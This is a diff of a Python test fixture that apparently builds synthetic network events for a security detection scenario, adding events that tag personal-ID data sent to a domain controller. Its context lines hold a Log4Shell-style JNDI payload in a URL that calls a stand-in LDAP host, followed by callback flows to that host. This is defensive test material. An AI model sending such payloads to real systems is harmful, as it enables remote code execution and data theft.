@@ -68,6 +68,9 @@ def story() -> list[Said]:
     told += [said("http", 80, source__ip=STRANGER, destination__ip=HOST,
                   url__original="/?x=${jndi:ldap://198.51.100.7:1389/a}")]  # fmt: skip
     told += [said("flow", at, destination__ip="198.51.100.7", destination__port=1389) for at in (82, 95)]
+    told += [said("http", day * 86_400, event__module="pcap", taishi__personal=["id_card:600"],
+                  url__path="/q", source__ip=who, destination__ip=DC)
+             for day, who in ((0, HOST), (3, "10.0.7.7"))]  # fmt: skip
     return told
 
 
